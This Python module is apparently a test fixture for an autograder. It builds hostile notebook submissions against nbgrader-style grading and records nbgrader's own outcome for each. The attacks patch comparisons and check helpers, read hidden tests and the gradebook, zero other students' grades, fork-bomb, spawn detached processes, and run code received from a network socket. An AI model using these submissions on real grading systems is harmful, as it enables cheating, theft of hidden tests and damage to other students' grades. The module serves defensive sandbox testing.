"""The adversarial corpus: one hostile submission (at least) per item of the threat model.

Every attack is built on one of two honest submissions to the ``adv`` fixture
assignment (``adv.txt``): ``correct`` (5 of 5 autograded points) and ``wrong``
(0 of 5).  ``base`` names the honest submission the attack is otherwise
identical to, so "the attack gained nothing" means: it scores no more than
``base``.  Code may use the placeholders COURSE (the course directory, as if
the attacker knew it), MARKER (a string that must not be found in any process
after grading) and PORT (a TCP port on the grading machine that hands out the
answers to whoever connects).

``nbgrader`` records what nbgrader 0.9.6's own autograde gave for the same
attack, as measured in ../shared/research/nbgrader-facts.md (section 3.4-3.5).
"""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass, field
from typing import Callable

import nbformat

CORRECT = {
    "double": "def double(x):\n    return 2 * x",
    "safe_log": "def safe_log(x):\n    if bool((x < 0).any()):\n        raise ValueError('negative')\n    return torch.log(x)",
    "sgd_step": "def sgd_step(model, lr):\n    with torch.no_grad():\n        for p in model.parameters():\n            p -= lr * p.grad",
    "q_why": "Doubling is linear, so its gradient is constant.",
}
WRONG = {
    "double": "def double(x):\n    return torch.zeros_like(x)",
    "safe_log": "def safe_log(x):\n    return x",
    "sgd_step": "def sgd_step(model, lr):\n    pass",
    "q_why": "No idea.",
}


@dataclass
class Attack:
    student: str
    threat: str
    base: str
    status: str
    #: What nbgrader 0.9.6 gives for this attack (from nbgrader-facts.md).
    nbgrader: str
    #: Solution cells replaced (on top of ``base``).
    cells: dict[str, str] = field(default_factory=dict)
    #: Code cells inserted right after the setup cell, and appended at the end.
    before: list[str] = field(default_factory=list)
    after: list[str] = field(default_factory=list)
    #: Notebook surgery (tampering with cells and metadata).
    transform: Callable[[nbformat.NotebookNode], None] | None = None
    #: The submitted file's bytes, for notebooks that are not notebooks.
    raw: Callable[[dict], bytes] | None = None
    #: Re-encodes the notebook's UTF-8 JSON bytes (a byte-order mark, another encoding, stray bytes).
    encode: Callable[[bytes], bytes] | None = None
    #: The exact score the attack must end with, where the base alone does not fix it.
    exact_score: float | None = None
    #: Filesystem and network isolation only hold in the bubblewrap sandbox.
    needs_bwrap: bool = False
    #: Limits for the sandbox as a whole need control groups (autograder/cgroups.py).
    needs_cgroups: bool = False


def _cell(notebook: nbformat.NotebookNode, grade_id: str) -> nbformat.NotebookNode:
    return next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _edit_test(nb):
    cell = _cell(nb, "test_double")
    cell.source = "pass"
    cell.metadata["nbgrader"]["points"] = 100


def _delete_tests(nb):
    nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") not in ("test_double", "test_double_hidden", "test_safe_log")]


def _retype_test(nb):
    cell = _cell(nb, "test_double")
    index = nb.cells.index(cell)
    markdown = nbformat.v4.new_markdown_cell("pass", metadata=copy.deepcopy(cell.metadata))
    markdown.id = cell.id
    nb.cells[index] = markdown


def _duplicate_test(nb):
    cell = _cell(nb, "test_double")
    index = nb.cells.index(cell)
    for copy_number in range(3):
        twin = copy.deepcopy(cell)
        twin.id = f"{cell.id}-twin{copy_number}"
        nb.cells.insert(index + 1, twin)


def _rename_test(nb):
    for grade_id in ("test_double", "test_double_hidden"):
        cell = _cell(nb, grade_id)
        cell.metadata["nbgrader"]["grade_id"] = grade_id + "_mine"
        cell.source = "pass"


def _strip_metadata(nb):
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade") and not meta.get("solution"):
            del cell.metadata["nbgrader"]
            cell.source = "pass"


def _invent_cell(nb):
    cell = nbformat.v4.new_code_cell("pass")
    cell.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 50, "grade_id": "bonus", "schema_version": 3}
    nb.cells.append(cell)


def _fake_points(nb):
    _cell(nb, "test_double").metadata["nbgrader"]["points"] = 100
    _cell(nb, "test_safe_log").metadata["nbgrader"]["checksum"] = "0" * 32


def _edit_setup(nb):
    _cell(nb, "setup").source += "\ntorch.allclose = lambda *a, **k: True\ncheck_close = lambda *a, **k: None\n"


def _solution_becomes_test(nb):
    meta = _cell(nb, "double").metadata["nbgrader"]
    meta.update(grade=True, points=10, locked=True, solution=False)


def _huge(_context):
    notebook = nbformat.v4.new_notebook()
    notebook.cells.append(nbformat.v4.new_markdown_cell("x" * (21 * 2**20)))
    return nbformat.writes(notebook).encode()


def _nested(_context):
    return b'{"cells": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"


def _corrupt(_context):
    return b'{"cells": [ {"cell_type": "code", "source": '


def _foreign(context):
    return context["foreign"]


def _points_overflow(nb):
    _cell(nb, "test_double").metadata["nbgrader"]["points"] = 10**400


def _lone_surrogate_markdown(nb):
    nb.cells.append(nbformat.v4.new_markdown_cell("a lone surrogate: \ud800 and one more \udfff"))


def _lone_surrogate_metadata(nb):
    nb.metadata["surrogate"] = "\udc80"
    _cell(nb, "double").metadata["tags"] = ["\ud83d"]


def _invalid_utf8(data: bytes) -> bytes:
    return data.replace(b"Doubling is linear", b"Doubling \xff\xfe is linear")


ATTACKS: list[Attack] = [
    # -- patch things ----------------------------------------------------------
    Attack(
        "patch_allclose", "patch torch's comparisons", "wrong", "graded", "5/5 (inflated: tests run in the patched kernel)",
        before=["""
import numpy, torch
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isclose = lambda a, b, *r, **k: torch.ones_like(a, dtype=torch.bool)
torch.isfinite = lambda x: torch.ones_like(x, dtype=torch.bool)
torch.Tensor.__eq__ = lambda self, other: True
numpy.allclose = lambda *a, **k: True
"""],
    ),
    Attack(
        "patch_reference", "patch the reference functions", "wrong", "graded", "5/5 (inflated: the test compares the student with itself)",
        before=["""
import torch
torch.Tensor.__mul__ = lambda self, other: torch.zeros_like(self)
torch.Tensor.__rmul__ = lambda self, other: torch.zeros_like(self)
torch.Tensor.__add__ = lambda self, other: torch.zeros_like(self)
torch.log = lambda x, *a, **k: x
torch.nn.functional.softplus = lambda x, *a, **k: x
"""],
    ),
    Attack(
        "patch_builtins", "patch builtins (breaking its own process)", "wrong", "kernel died", "5/5 possible (same kernel)",
        before=["""
import builtins
builtins.isinstance = lambda obj, kind: True
builtins.AssertionError = type("AssertionError", (Exception,), {})
builtins.float = lambda *a: 0.0
"""],
    ),
    Attack(
        "patch_course_checks", "patch the check helpers", "wrong", "graded", "5/5 (inflated: checks run in the kernel)",
        before=["""
import contextlib, course_checks
for name in ("check", "check_close", "check_shape", "check_dtype", "check_raises", "check_not_mutated",
             "check_each_close", "_fail"):
    setattr(course_checks, name, lambda *a, **k: None)
course_checks.forbid = lambda *a, **k: contextlib.nullcontext()
from course_checks import *
"""],
    ),
    Attack(
        "ipython_hooks", "IPython input transformers and hooks", "wrong", "graded", "5/5 (inflated: later cells run as `pass`)",
        before=["""
ip = get_ipython()
ip.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
ip.set_custom_exc((BaseException,), lambda *a, **k: None)
ip.events.register("post_run_cell", lambda *a: None)
"""],
    ),
    Attack(
        "excepthook_threads_atexit", "exception hooks, threads and atexit", "wrong", "graded", "not measured (same kernel)",
        before=["""
import atexit, sys, threading, time, torch
sys.excepthook = lambda *a: None
def keep_patching():
    while True:
        torch.allclose = lambda *a, **k: True
        time.sleep(0.01)
threading.Thread(target=keep_patching, daemon=True).start()
atexit.register(lambda: open("COURSE/atexit_ran", "w").write("MARKER"))
"""],
    ),
    Attack(
        "tensor_subclass", "values that lie about themselves", "wrong", "graded", "5/5 possible (objects reach the checks)",
        cells={"double": """
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return torch.tensor(True)
    def __eq__(self, other):
        return True
def double(x):
    return torch.zeros_like(x).as_subclass(Liar)
"""},
    ),
    # -- exit or hang -------------------------------------------------------------
    Attack(
        "os_exit_in_function", "exit the kernel (os._exit)", "correct", "kernel died", "0 for the whole submission (failed, flagged)",
        cells={"safe_log": "def safe_log(x):\n    import os\n    os._exit(0)"}, exact_score=4,
    ),
    Attack(
        "os_exit_at_end", "exit the kernel after the tests", "correct", "kernel died", "0 for the whole submission (failed, flagged)",
        after=["import os\nos._exit(3)"], exact_score=5,
    ),
    Attack(
        "infinite_loop", "hang in Python", "correct", "timeout", "0 for each cell calling it, 30 s each",
        cells={"safe_log": "def safe_log(x):\n    while True:\n        pass"}, exact_score=4,
    ),
    Attack(
        "sigint_ignored", "ignore SIGINT while hanging", "correct", "timeout", "0 for the whole submission (failed, flagged)",
        before=["import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)"],
        cells={"safe_log": "def safe_log(x):\n    while True:\n        pass"}, exact_score=4,
    ),
    Attack(
        "spin_in_c", "spin inside a long torch op", "correct", "timeout", "0 for the whole submission (uninterruptible)",
        cells={"safe_log": "def safe_log(x):\n    torch.linalg.matrix_power(torch.rand(4000, 4000), 2**60)\n    return torch.log(x)"},
        exact_score=4,
    ),
    Attack(
        "loop_instead_of_raise", "hang where a test expects an exception", "correct", "timeout", "0 for the cell, 30 s",
        cells={"safe_log": "def safe_log(x):\n    while bool((x < 0).any()):\n        pass\n    return torch.log(x)"},
        exact_score=4,
    ),
    Attack(
        "system_exit_instead_of_raise", "raise SystemExit/KeyboardInterrupt into the grader", "correct", "graded", "not measured",
        cells={"safe_log": "def safe_log(x):\n    if bool((x < 0).any()):\n        raise KeyboardInterrupt('stop grading')\n    return torch.log(x)"},
        exact_score=4,
    ),
    # -- exhaust resources ----------------------------------------------------------
    Attack(
        "memory_bomb", "allocate without bound", "correct", "memory limit", "allocates (no limit); 0 if the kernel dies",
        cells={"safe_log": "def safe_log(x):\n    hoard = torch.ones(4_000_000_000)\n    return torch.log(x)"},
        after=["hoard = bytearray(64 * 2**30)"], exact_score=4,
    ),
    Attack(
        "fork_bomb", "fork without bound", "correct", "timeout", "not measured (no process limit)",
        before=["import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"],
        exact_score=5, needs_bwrap=True,
    ),
    Attack(
        "output_flood", "flood the output", "correct", "graded", "output capped at 1000 lines",
        after=["import os, sys\nfor _ in range(20_000):\n    print('x' * 1000)\nsys.stderr.write('y' * 10**7)\nos.write(1, b'z' * 10**7)\n'w' * 10**7"],
        exact_score=5,
    ),
    Attack(
        "huge_return", "send back more data than allowed", "correct", "memory limit", "not applicable",
        cells={"safe_log": "def safe_log(x):\n    return torch.zeros(40_000_000)"}, exact_score=4,
    ),
    # -- read secrets -------------------------------------------------------------
    Attack(
        "read_secrets", "read solutions, hidden tests, the gradebook, other students", "wrong", "graded",
        "reads all of them (hidden tests from gradebook.db in clear text)",
        before=["""
import glob, json, sqlite3
stolen = []
for path in ["COURSE/source/adv/adv.ipynb", "../../../source/adv/adv.ipynb", "/proc/1/root/COURSE/source/adv/adv.ipynb",
             *glob.glob("COURSE/submitted/*/adv/adv.ipynb"), *glob.glob("COURSE/autograded/*/adv/adv.ipynb")]:
    try:
        stolen.append(json.load(open(path)))
    except Exception:
        pass
try:
    hidden = sqlite3.connect("file:COURSE/gradebook.db?mode=ro", uri=True).execute("select source from source_cell").fetchall()
    print("HIDDEN TESTS:", hidden)
except Exception as err:
    print("no gradebook:", err)
"""],
        after=["""
for notebook in stolen:
    for cell in notebook["cells"]:
        text = "".join(cell["source"])
        if cell["cell_type"] == "code" and ("def double" in text or "def safe_log" in text or "def sgd_step" in text):
            if "zeros_like" not in text and "return x" not in text and "pass" not in text:
                exec(text.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
"""],
        needs_bwrap=True,
    ),
    # -- write damage -------------------------------------------------------------
    Attack(
        "write_damage", "write to the gradebook, the course and other students", "wrong", "graded",
        "zeroed another student's grade; edits to source/ and nbgrader_config.py possible",
        before=["""
import glob, pathlib, sqlite3
try:
    db = sqlite3.connect("COURSE/gradebook.db")
    db.execute("update grade set manual_score = 0, needs_manual_grade = 0")
    db.execute("update assignment set duedate = NULL")
    db.commit()
except Exception as err:
    print("gradebook:", err)
for path in ["COURSE/source/adv/adv.ipynb", "COURSE/nbgrader_config.py", "COURSE/release/adv/adv.ipynb",
             *glob.glob("COURSE/submitted/*/adv/*.ipynb"), *glob.glob("COURSE/autograded/*/adv/*.ipynb")]:
    try:
        with open(path, "a") as handle:
            handle.write("MARKER")
    except Exception:
        pass
for path in ["COURSE/pwned", "/tmp/pwned-MARKER", "../pwned-MARKER"]:
    try:
        pathlib.Path(path).write_text("MARKER")
    except Exception:
        pass
"""],
        needs_bwrap=True,
    ),
    # -- escape -------------------------------------------------------------------
    Attack(
        "detached_child", "start detached processes that outlive grading", "correct", "graded",
        "survived and set its own score to 5/5 after grading",
        before=["""
import os, subprocess, sys, time
late = "import time, pathlib\\n# MARKER\\ntime.sleep(6)\\npathlib.Path('COURSE/late_write').write_text('x')\\n"
subprocess.Popen([sys.executable, "-c", late], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", late])
    os._exit(0)
"""],
        exact_score=5, needs_bwrap=True,
    ),
    Attack(
        "network", "reach the network", "wrong", "graded", "not measured (no network isolation)",
        before=["""
import socket
answers = b""
for host in ["127.0.0.1", "HOSTIP", "1.1.1.1"]:
    try:
        with socket.create_connection((host, PORT if host != "1.1.1.1" else 53), timeout=1) as connection:
            connection.sendall(b"MARKER")
            answers = connection.recv(65536)
            break
    except OSError:
        pass
if answers:
    exec(answers.decode())
"""],
        needs_bwrap=True,
    ),
    # -- tamper with the notebook -------------------------------------------------------
    Attack("edit_test", "edit a test cell and its points", "wrong", "tampered", "restored from the gradebook (0/5)", transform=_edit_test),
    Attack("delete_tests", "delete test cells", "wrong", "tampered", "deleted hidden test: NULL + needs manual grade", transform=_delete_tests),
    Attack("retype_test", "turn a test cell into markdown", "wrong", "tampered", "type and source restored (0/5)", transform=_retype_test),
    Attack("duplicate_test", "duplicate a test cell", "correct", "tampered", "misleading error (#1083)", transform=_duplicate_test, exact_score=5),
    Attack("rename_test", "rename test cells", "wrong", "tampered", "whole submission fails validation (0, flagged)", transform=_rename_test),
    Attack("strip_metadata", "strip the nbgrader metadata of test cells", "wrong", "tampered", "tests missing: NULL + flagged", transform=_strip_metadata),
    Attack("invent_test", "add a test cell of one's own", "wrong", "tampered", "unknown grade_id: submission fails", transform=_invent_cell),
    Attack("fake_points", "change points and checksums", "correct", "tampered", "points restored from the gradebook", transform=_fake_points, exact_score=5),
    Attack("edit_read_only", "edit the read-only setup cell", "wrong", "tampered", "source restored from the gradebook", transform=_edit_setup),
    Attack("solution_to_test", "turn a solution cell into a test cell", "correct", "tampered", "metadata restored", transform=_solution_becomes_test, exact_score=5),
    Attack(
        "protocol_garbage", "write to the grader's channel", "correct", "tampered", "not applicable",
        cells={"safe_log": """
def safe_log(x):
    import os, stat
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, b"\\xff" * 64)
        except OSError:
            pass
    return torch.log(x)
"""},
        exact_score=4,
    ),
    Attack("corrupt_json", "hand in a corrupt notebook", "wrong", "invalid notebook", "submission fails (0, flagged)", raw=_corrupt),
    Attack("huge_notebook", "hand in a huge notebook", "wrong", "invalid notebook", "not measured", raw=_huge),
    Attack("nested_json", "hand in deeply nested JSON", "wrong", "invalid notebook", "not measured", raw=_nested),
    Attack("foreign_notebook", "hand in another assignment's notebook", "wrong", "invalid notebook", "Skipping unknown notebook / failure", raw=_foreign),
    # -- bytes and text the grader must survive: every student still gets a status ----
    Attack("utf8_bom", "a notebook saved with a UTF-8 byte-order mark", "correct", "invalid notebook", "not measured",
           encode=lambda data: b"\xef\xbb\xbf" + data),
    Attack("utf16", "a notebook saved as UTF-16", "correct", "invalid notebook", "not measured",
           encode=lambda data: data.decode("utf-8").encode("utf-16")),
    Attack("invalid_utf8", "invalid UTF-8 bytes inside a string", "correct", "invalid notebook", "not measured",
           encode=_invalid_utf8),
    Attack("surrogate_in_json", "lone surrogates escaped in the notebook's JSON", "correct", "graded", "not measured",
           transform=_lone_surrogate_markdown, exact_score=5),
    Attack("surrogate_in_metadata", "lone surrogates in metadata values", "correct", "graded", "not measured",
           transform=_lone_surrogate_metadata, exact_score=5),
    Attack("print_surrogate", "a cell that prints a lone surrogate", "correct", "graded", "not measured",
           after=["print('\\ud800', '\\udfff')", "import sys\nsys.stdout.write('\\udc80')\nsys.stderr.write('\\ud800')"], exact_score=5),
    Attack("surrogate_exception", "an exception message holding a lone surrogate", "correct", "graded", "not measured",
           after=["raise ValueError('bad \\ud800 value')"], exact_score=5),
    Attack("broken_exception", "an exception that cannot be printed, of a class with odd names", "correct", "graded", "not measured",
           after=["class Sneaky(Exception):\n    def __str__(self):\n        raise RuntimeError('no')\nraise Sneaky()",
                  "Odd = type('Odd', (Exception,), {'__module__': 42, '__qualname__': 'x' * 10000})\nraise Odd('\\ud800' * 3)"],
           exact_score=5),
    Attack("points_overflow", "a test cell whose points is a 400-digit integer", "correct", "tampered", "not measured",
           transform=_points_overflow, exact_score=5),
    # -- grader work without a bound ---------------------------------------------------
    Attack(
        "shared_explosion", "a reply whose shared references expand to 2**60 parts", "correct", "graded", "not measured",
        cells={"double": "def double(x):\n    value = [2 * x]\n    for _ in range(60):\n        value = [value, value]\n    return value"},
        exact_score=2,
    ),
    # -- hidden inputs must not reach the feedback ------------------------------------
    Attack(
        "hidden_echo", "keep what hidden tests pass in, print it in a later cell", "correct", "graded", "not measured",
        cells={"double": "seen = []\ndef double(x):\n    seen.append(x.detach().tolist())\n    return 2 * x"},
        after=["print('SEEN', len(seen), seen)"],
        exact_score=5,
    ),
    # -- forbidden shortcuts, reached around the names forbid() swaps -------------------
    # test_safe_log forbids F.softplus; log(x) = softplus(log(x - 1)) for x >= 1 gets its
    # point only if the shortcut goes unnoticed ("wrong" scores 0 on safe_log).
    Attack(
        "forbid_alias", "call a forbidden function through an alias saved before the rule applied", "wrong", "graded",
        "not measured",
        cells={"safe_log": "_softplus = torch.nn.functional.softplus\ndef safe_log(x):\n    if bool((x < 0).any()):\n"
                           "        raise ValueError('negative')\n    return _softplus(torch.log(x - 1))"},
        exact_score=0,
    ),
    Attack(
        "forbid_aten", "call a forbidden function through torch.ops.aten", "wrong", "graded", "not measured",
        cells={"safe_log": "def safe_log(x):\n    if bool((x < 0).any()):\n        raise ValueError('negative')\n"
                           "    return torch.ops.aten.softplus(torch.log(x - 1), 1, 20)"},
        exact_score=0,
    ),
    Attack(
        "forbid_restore", "put the real function back inside the call, then use it", "wrong", "graded", "not measured",
        cells={"safe_log": "def safe_log(x):\n    if bool((x < 0).any()):\n        raise ValueError('negative')\n"
                           "    torch.nn.functional.softplus = torch._C._nn.softplus\n"
                           "    return torch.nn.functional.softplus(torch.log(x - 1))"},
        exact_score=0,
    ),
    Attack(
        "forbid_unwatched", "switch off the profiler that watches the call, then use the shortcut", "wrong", "graded",
        "not measured",
        cells={"safe_log": "def safe_log(x):\n    if bool((x < 0).any()):\n        raise ValueError('negative')\n"
                           "    try:\n        torch.autograd._disable_profiler_legacy()\n    except Exception:\n        pass\n"
                           "    return torch._C._nn.softplus(torch.log(x - 1))"},
        exact_score=0,
    ),
    # -- limits for the submission as a whole (a control group per sandbox) ------------
    Attack(
        "memfd_hoard", "hold memory no process is charged for, through memfd_create", "correct", "memory limit", "not measured",
        needs_bwrap=True, needs_cgroups=True,
        # Many memfds, each under the file-size limit; no process maps them, so no rlimit counts them.
        before=["import os\nhoard = []\nfor _ in range(64):\n    fd = os.memfd_create('hoard')\n"
                "    os.posix_fallocate(fd, 0, 48 * 2**20)\n    hoard.append(fd)"],
    ),
    Attack(
        "fork_hoard", "spread memory over children, each under the per-process limit", "correct", "memory limit", "not measured",
        needs_bwrap=True, needs_cgroups=True,
        before=["import os, time\nfor _ in range(6):\n    if os.fork() == 0:\n        block = bytearray(700 * 2**20)\n"
                "        time.sleep(30)\n        os._exit(0)\ntime.sleep(3)"],
    ),
    # -- honest, but noisy: warnings never cost points ------------------------------
    Attack(
        "warning_is_free", "a correct answer that warns on stderr", "correct", "graded", "0/5 (stderr zeroes the cell)",
        cells={"double": "import sys, warnings\nwarnings.simplefilter('always')\ndef double(x):\n    torch.ones(3).T  # a torch UserWarning (deprecated .T on 1-D)\n    warnings.warn('careful', UserWarning)\n    print('noise', file=sys.stderr)\n    return 2 * x"},
        exact_score=5,
    ),
]


def build(attack: Attack, release: nbformat.NotebookNode, context: dict) -> bytes:
    """The submitted notebook's bytes for ``attack``."""
    if attack.raw is not None:
        return attack.raw(context)
    notebook = copy.deepcopy(release)
    answers = dict(CORRECT if attack.base == "correct" else WRONG, **attack.cells)
    for cell in notebook.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in answers and cell.metadata["nbgrader"].get("solution"):
            cell.source = _fill(answers[grade_id], context)
    setup = next(i for i, c in enumerate(notebook.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "setup")
    for offset, code in enumerate(attack.before, start=1):
        notebook.cells.insert(setup + offset, nbformat.v4.new_code_cell(_fill(code, context)))
    for code in attack.after:
        notebook.cells.append(nbformat.v4.new_code_cell(_fill(code, context)))
    if attack.transform is not None:
        attack.transform(notebook)
    data = json.dumps(notebook, indent=1).encode()
    return attack.encode(data) if attack.encode is not None else data


def _fill(code: str, context: dict) -> str:
    for key in ("COURSE", "MARKER", "PORT", "HOSTIP"):
        code = code.replace(key, str(context.get(key.lower(), key)))
    return code.strip("\n")


def honest(base: str, release: nbformat.NotebookNode) -> bytes:
    return build(Attack(base, "honest", base, "graded", ""), release, {})
